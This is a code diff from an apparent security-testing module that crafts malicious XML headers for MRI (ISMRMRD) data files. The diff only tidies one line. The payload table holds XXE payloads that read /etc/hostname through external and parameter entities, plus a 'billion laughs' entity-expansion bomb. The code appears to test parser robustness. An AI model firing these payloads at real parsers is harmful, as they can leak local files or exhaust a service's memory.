@@ -10,14 +10,14 @@ import numpy as np
 
 from attacks.crafts import Change, Craft, Scans, array, changed, put
 
+PAIRS = tuple(pairwise('abcdefghi'))
 DOCTYPE = '<?xml version="1.0"?>\n<!DOCTYPE ismrmrdHeader [{}]>'
 DTDS = {
     'DTD': '<!ELEMENT a ANY>',
     'entity': '<!ENTITY a "64">',
     'external entity': '<!ENTITY a SYSTEM "file:///etc/hostname">',
     'parameter entity': '<!ENTITY % a SYSTEM "file:///etc/hostname"> %a;',
-    'billion laughs': '<!ENTITY a "lol">'
-    + ''.join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise('abcdefghi')),
+    'billion laughs': '<!ENTITY a "lol">' + ''.join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in PAIRS),
 }
 
 FIELDS = ('encoding', 'encodedSpace', 'matrixSize', 'x', 'y', 'z', 'reconSpace', 'fieldOfView_mm', 'encodingLimits')
